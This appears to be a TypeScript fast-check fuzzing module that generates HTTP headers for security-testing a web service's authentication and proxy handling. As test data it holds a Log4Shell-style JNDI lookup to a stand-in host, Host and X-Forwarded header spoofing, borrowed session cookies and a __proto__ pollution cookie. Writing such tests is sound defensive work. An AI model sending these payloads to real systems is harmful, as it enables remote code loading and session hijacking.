// Headers: who the client says it is, what it says it takes, and what strangers say that only a proxy may.
import fc from 'fast-check';
import { hostileText, mark, maybe } from './values.ts';

type Header = readonly [name: string, value: string];

const credentials = [
  ['Authorization', 'Basic {{product}}'],
  ['Authorization', 'Bearer {{support}}'],
  ['Authorization', 'Bearer {{admin}}'],
] as const;

const wrong = [
  ['Authorization', 'Bearer {{revoked}}'],
  ['Authorization', 'Basic {{product.as-support}}'],
  ['Authorization', 'Bearer {{session.victim}}'],
  ['Authorization', 'Bearer {{session.other}}'],
  ['Authorization', 'Basic %%%'],
  ['Authorization', 'Basic Og=='],
  ['Authorization', `Bearer ${mark}`],
  ['Authorization', 'Bearer'],
  ['Authorization', `Negotiate ${mark}`],
  ['Authorization', `Bearer ${'A'.repeat(43)}`],
  ['Authorization', `Bearer ${'a'.repeat(9_000)}`],
] as const;

const authorization = (good: number): fc.Arbitrary<Header> =>
  fc.oneof(
    { weight: good, arbitrary: fc.constantFrom<Header>(...credentials) },
    { weight: 1, arbitrary: fc.constantFrom<Header>(...wrong) },
  );

const cookies = fc.oneof(
  {
    weight: 4,
    arbitrary: fc.constantFrom(
      'summit_session={{session.victim}}',
      'summit_session={{session.other}}',
      'summit_session={{session.victim}}; summit_session={{session.other}}',
      '{{attempt.cookie}}',
      '{{attempt.cookie}}; summit_session={{session.victim}}',
      'summit_staff={{staff}}',
      'summit_staff={{staff}}; summit_session={{session.victim}}',
      '{{staff.sign-in}}',
    ),
  },
  {
    weight: 2,
    arbitrary: fc.constantFrom(
      `summit_session=${mark}`,
      'summit_session=',
      'summit_session="{{session.victim}}"',
      `SUMMIT_SESSION={{session.victim}}`,
      `__Host-summit_session={{session.victim}}`,
      `$Version=1; summit_session=${mark}; $Path=/`,
      `summit_sign_in_(a b)=${mark}`,
      `summit_sign_in_${mark}=1`,
      Array.from({ length: 300 }, (_, each) => `summit_sign_in_${each}=${mark}`).join('; '),
      `summit_session=${'a'.repeat(8_000)}`,
      `__proto__=${mark}; constructor=1; toString=2`,
      ';;;=;==',
      'summit_staff_sign_in_0m1x2y3z4AAAAAAAA=AAAA',
      'summit_staff={{admin}}',
    ),
  },
  { weight: 1, arbitrary: hostileText.map((text) => `summit_session=${text}`) },
);

const accept = fc.constantFrom(
  ...['text/html', 'application/json', 'application/problem+json', '*/*', 'text/csv', 'text/html;q=0, */*;q=0.1'],
  ...['application/*+json', ';;;', 'text/html;q=9;q=-1', 'a/'.repeat(500), `${mark}/${mark}`],
);

const strange: readonly Header[] = [
  ['X-Forwarded-For', `127.0.0.1, ${mark}`],
  ['X-Forwarded-For', '203.0.113.9'],
  ['X-Forwarded-Host', 'evil.invalid'],
  ['X-Forwarded-Proto', 'https'],
  ['X-Forwarded-Prefix', '//evil.invalid'],
  ['Forwarded', 'for=127.0.0.1;host=evil.invalid;proto=https'],
  ['X-Real-IP', '127.0.0.1'],
  ['X-Original-URL', '/support/trail'],
  ['X-Rewrite-URL', '/support/trail'],
  ['X-HTTP-Method-Override', 'PUT'],
  ['Origin', 'https://evil.invalid'],
  ['Origin', 'null'],
  ['Sec-Fetch-Site', 'cross-site'],
  ['Sec-Fetch-Site', 'same-origin'],
  ['Sec-Fetch-Site', mark],
  ['Referer', `https://evil.invalid/${mark}`],
  ['Range', 'bytes=0-1'],
  ['Range', 'bytes=-1,0-,5-2'],
  ['If-None-Match', '*'],
  ['If-Modified-Since', 'Thu, 01 Jan 2099 00:00:00 GMT'],
  ['If-Match', `"${mark}"`],
  ['Accept-Language', 'es'],
  ['Accept-Language', 'es-MX;q=0.9, *;q=0.1'],
  ['Accept-Language', `${mark}, ${'a-'.repeat(300)}`],
  ['Accept-Encoding', 'identity;q=0, *;q=0'],
  ['Expect', '100-continue'],
  ['Upgrade', 'websocket'],
  ['TE', 'trailers'],
  ['User-Agent', `\${jndi:ldap://${mark}.invalid}`],
  ['Access-Control-Request-Method', 'PUT'],
  ['Access-Control-Request-Private-Network', 'true'],
];

const host = fc.oneof(
  { weight: 12, arbitrary: fc.constant('{{host}}') },
  {
    weight: 1,
    arbitrary: fc.constantFrom('evil.invalid', 'evil.invalid:80', '', `${mark}`, 'localhost@evil.invalid', '[::1]'),
  },
);

/** @param path the services route is asked with a credential more often than not, else nothing behind the door is met */
export function headers(path: string): fc.Arbitrary<Header[]> {
  const isOffice = /^\/(districts|support|oauth\/(introspect|revoke)|session\/revocations)/.test(path);
  return fc
    .tuple(
      host,
      isOffice ? maybe(5, 1, authorization(5)) : maybe(1, 4, authorization(1)),
      isOffice ? maybe(2, 5, cookies) : maybe(2, 1, cookies),
      maybe(1, 20, cookies),
      maybe(3, 1, accept),
      fc.array(fc.constantFrom(...strange), { maxLength: 3 }),
    )
    .map(([name, shown, cookie, second, accepted, others]) => [
      ['Host', name],
      ...(shown === undefined ? [] : [shown]),
      ...(cookie === undefined ? [] : [['Cookie', cookie] as const]),
      ...(second === undefined ? [] : [['Cookie', second] as const]),
      ...(accepted === undefined ? [] : [['Accept', accepted] as const]),
      ...others,
    ]);
}
